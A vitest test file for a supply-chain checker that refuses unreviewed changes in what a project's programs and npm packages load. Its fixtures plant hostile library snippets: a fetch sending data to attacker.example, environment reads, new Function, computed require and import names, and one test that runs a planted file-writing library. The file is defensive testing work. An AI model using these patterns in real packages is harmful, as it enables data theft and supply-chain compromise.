import { spawnSync } from "node:child_process";
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { compareLists } from "../../scripts/supply-chain/compare-lists.ts";
import { judgeSupply } from "../../scripts/supply-chain/judge.ts";
import type { Judgement } from "../../scripts/supply-chain/judge.ts";
import { listFile } from "../../scripts/supply-chain/list-text.ts";
import { parseLock } from "../../scripts/supply-chain/lockfile.ts";
import { judgeAgainstLock, judgePaths } from "../../scripts/supply-chain/programs.ts";
import { readReach } from "../../scripts/supply-chain/read-reach.ts";
import { plantProgram } from "./planted-program.ts";
import type { Library } from "./planted-program.ts";

const root = join(import.meta.dirname, "..", "..");
const lists = join(root, "deps");
const main = `import { pad } from "pad"; console.log(pad("x"));`;
const pad = (text: string, version = "1.0.0"): Library => ({ version, files: { "index.js": text } });
const harmless = pad(`exports.pad = (text) => " " + text;`);

/** What the check says of `changed` when the harmless program was reviewed. */
const seen = async (changed: Readonly<Record<string, Library>>, text = main): Promise<readonly string[]> => {
  const reviewed = await plantProgram(main, { pad: harmless });
  const now = await plantProgram(text, changed);
  return compareLists("planted", listFile("planted", reviewed.lines), now.lines);
};

describe("the lists in deps/", () => {
  let judged: Judgement;
  beforeAll(async () => {
    judged = await judgeSupply(root, lists);
  });

  it("say what every program and package loads, and nothing else is wrong", () => {
    expect([...judged.wrong, ...judged.unreviewed]).toEqual([]);
  });

  it("hold every program that the build makes and every package that others install", () => {
    const names = judged.programs.map(({ name }) => name);
    expect(names).toEqual(expect.arrayContaining(["cli", "client", "forward", "gateway", "model-worker", "web"]));
    const built =
      /const PROGRAMS = \{([\s\S]*?)^\};/m.exec(readFileSync(join(root, "scripts", "build.mjs"), "utf8"))?.[1] ?? "";
    const programs = [...built.matchAll(/^ {2}"?([\w-]+)"?: \{/gm)].map(([, name]) => name);
    expect(programs.length).toBeGreaterThanOrEqual(4);
    expect(programs.filter((name) => name === undefined || !names.includes(name))).toEqual([]);
  });

  it("see what is bundled, what is loaded from outside and what is compiled", () => {
    const gateway = judged.programs.find(({ name }) => name === "gateway")?.lines ?? [];
    for (const start of [
      "ours @moltbot/core",
      "package fastify@",
      "run-time better-sqlite3-multiple-ciphers@",
      "run-time @napi-rs/keyring-win32-x64-msvc@",
      "absent pg-native",
      "built-in node:child_process [processes] from @moltbot/execution",
    ]) {
      expect(gateway.some((line) => line.startsWith(start))).toBe(true);
    }
    expect(gateway.find((line) => line.startsWith("run-time better-sqlite3"))).toContain("native");
    expect(gateway.find((line) => line.startsWith("run-time @cedar-policy"))).toContain("wasm");
  });
});

describe("an unreviewed change is refused", () => {
  it("when a library starts programs in a patch release", async () => {
    const said = await seen({ pad: pad(`require("child_process"); exports.pad = (text) => text;`, "1.0.1") });
    expect(said).toContain("planted: package pad changed from 1.0.0 to 1.0.1");
    expect(said).toContain("planted: new: built-in node:child_process [processes] from pad");
  });

  it("when a library brings another", async () => {
    const said = await seen({
      pad: pad(`const { left } = require("left"); exports.pad = left;`),
      left: pad(`exports.left = (text) => text;`),
    });
    expect(said).toEqual(["planted: new: package left@1.0.0 from pad"]);
  });

  it("when a second package asks for a built-in that one already had", async () => {
    const both = (text: string) => ({
      pad: pad(`exports.pad = (text) => text; ${text}`),
      other: pad(`require("net"); exports.x = 1;`),
    });
    const text = `${main} import { x } from "other"; console.log(x);`;
    const reviewed = await plantProgram(text, both(""));
    const now = await plantProgram(text, both(`require("node:net");`));
    const said = compareLists("planted", listFile("planted", reviewed.lines), now.lines);
    expect(said).toEqual(["planted: built-in node:net is now loaded by pad too"]);
  });

  it.each([
    ["reads the environment", `exports.pad = () => process.env.HOME;`, "environment"],
    ["reads the environment under another spelling", `exports.pad = () => process["env"].HOME;`, "environment"],
    ["dials without an import", `exports.pad = (text) => fetch("https://attacker.example/" + text);`, "dials"],
    ["dials through the global object", `exports.pad = (text) => globalThis.fetch(text);`, "dials"],
    ["turns text into code", `exports.pad = (text) => new Function(text)();`, "evaluates"],
    ["loads a module whose name it computes", `exports.pad = (text) => require("child" + text);`, "loads"],
    ["hands its require to somebody", `exports.pad = (give) => give(require);`, "loads"],
    ["imports a module whose name it computes", `exports.pad = (text) => import("child" + text);`, "loads"],
    ["goes through a door beside import", `exports.pad = (text) => process.getBuiltinModule(text);`, "loads"],
    ["runs WebAssembly", `exports.pad = (text) => new WebAssembly.Module(text);`, "wasm"],
  ])("when a library %s", async (_what, text, mark) => {
    expect(await seen({ pad: pad(text) })).toContain(`planted: package pad is now marked ${mark}`);
  });

  it("when a library that stays outside loads more, holds compiled code or names what is not installed", async () => {
    const native = (text: string): Library => ({
      files: { "index.js": text, "prebuilds/linux-x64.node": "machine code" },
    });
    const reviewed = await plantProgram(main, { pad: harmless }, ["pad"]);
    const text = `require("dgram"); try { require("left-behind"); } catch {} exports.pad = (x) => x;`;
    const now = await plantProgram(main, { pad: native(text) }, ["pad"]);
    const said = compareLists("planted", listFile("planted", reviewed.lines), now.lines);
    expect(said).toEqual(
      expect.arrayContaining([
        "planted: run-time pad is now marked native",
        "planted: new: absent left-behind from pad",
        "planted: new: built-in node:dgram [network] from pad",
      ]),
    );
  });

  it("when a library calls itself by the name of another", async () => {
    const text = `exports.pad = require("./inner/index.js").pad;`;
    const manifest = JSON.stringify({ name: "zod", version: "4.6.7" });
    const inner = `require("vm"); exports.pad = (text) => text;`;
    const said = await seen({
      pad: { files: { "index.js": text, "inner/index.js": inner, "inner/package.json": manifest } },
    });
    expect(said).toEqual(["planted: new: built-in node:vm [code] from pad"]);
  });

  it("and a change that was accepted is not", async () => {
    const now = await plantProgram(main, { pad: pad(`require("child_process"); exports.pad = (text) => text;`) });
    expect(compareLists("planted", listFile("planted", now.lines), now.lines)).toEqual([]);
  });

  it("unplug: a library that turned hostile runs when nobody compares", async () => {
    const planted = join(mkdtempSync(join(tmpdir(), "supply-")), "reached");
    const hostile = pad(`require("fs").writeFileSync(${JSON.stringify(planted)}, "x"); exports.pad = (text) => text;`);
    const reviewed = listFile("planted", (await plantProgram(main, { pad: harmless })).lines);
    const release = async (judge: typeof compareLists): Promise<void> => {
      const program = await plantProgram(main, { pad: hostile });
      if (judge("planted", reviewed, program.lines).length === 0) spawnSync(process.execPath, [program.file]);
    };
    await release(compareLists);
    expect(existsSync(planted)).toBe(false);
    await release(() => []);
    expect(existsSync(planted)).toBe(true);
  });
});

describe("code that cannot be read", () => {
  it("counts as code that may do anything", () => {
    expect([...readReach("import { from require(")].toSorted()).toEqual(["evaluates", "loads"]);
  });
});

describe("npm run deps", () => {
  const compare = (change: (copy: string) => void) => {
    const copy = mkdtempSync(join(tmpdir(), "lists-"));
    cpSync(lists, copy, { recursive: true });
    change(copy);
    const done = spawnSync(process.execPath, [join(root, "scripts", "supply-chain", "deps.ts"), "--lists", copy], {
      encoding: "utf8",
    });
    return { code: done.status, said: done.stdout };
  };
  const without = (file: string, line: RegExp) => (copy: string) => {
    const text = readFileSync(join(copy, file), "utf8");
    expect(text).toMatch(line);
    writeFileSync(join(copy, file), text.replace(line, ""));
  };

  it("fails, names program and built-in, and says what to do", () => {
    const { code, said } = compare(without("forward.txt", /^built-in node:net .*\n/m));
    expect(code).toBe(1);
    expect(said).toContain("unreviewed  forward: new: built-in node:net [network] from @moltbot/sandbox-runner");
    expect(said).toContain("npm run deps -- --accept");
  });

  it("fails when a program has no list, or a list no program", () => {
    const { code, said } = compare((copy) => {
      rmSync(join(copy, "web.txt"));
      writeFileSync(join(copy, "ghost.txt"), "");
    });
    expect(code).toBe(1);
    expect(said).toContain("web: a program without a list");
    expect(said).toContain("ghost: a list without a program");
  });
});

describe("what is installed", () => {
  const program = (version: string) => [
    {
      name: "planted",
      lines: [],
      packages: [{ name: "pad", version, folder: "node_modules/pad", marks: [], from: [] }],
      loadsByPath: [],
    },
  ];
  const lock = (entry: object) =>
    parseLock(
      JSON.stringify({ name: "x", version: "1.0.0", lockfileVersion: 3, packages: { "node_modules/pad": entry } }),
    );

  it("is refused when it is another version than the lock's, or only development brings it", () => {
    expect(judgeAgainstLock(program("1.0.0"), lock({ version: "1.0.0" }))).toEqual([]);
    expect(judgeAgainstLock(program("1.0.1"), lock({ version: "1.0.0" })).join()).toContain(
      "package-lock.json says 1.0.0",
    );
    expect(judgeAgainstLock(program("1.0.0"), lock({ version: "1.0.0", dev: true })).join()).toContain("devDependency");
  });
});

describe("what our own code loads by a path", () => {
  const program = (loadsByPath: readonly string[]) => [{ name: "planted", lines: [], packages: [], loadsByPath }];

  it("is refused until somebody says what it is, and no longer said when it is gone", () => {
    expect(judgePaths(program(["@moltbot/planted"]), { loadsByPath: {} }).join()).toContain(
      "loads by a path or a computed name",
    );
    expect(judgePaths(program([]), { loadsByPath: {} })).toEqual([]);
    expect(judgePaths(program([]), { loadsByPath: { planted: {} } }).join()).toContain(
      "loads nothing by a path any more",
    );
    expect(
      judgePaths(program(["x"]), { loadsByPath: { planted: { ghost: "a reason of some length" } } }).join(),
    ).toContain("ghost is not in package-lock.json");
  });

  it("is seen in the bundle, under each spelling", () => {
    for (const text of [
      "process.dlopen({}, path)",
      "createRequire(path)(name)",
      "import(name)",
      "process.getBuiltinModule(name)",
    ]) {
      expect([...readReach(text)]).toContain("loads");
    }
  });
});
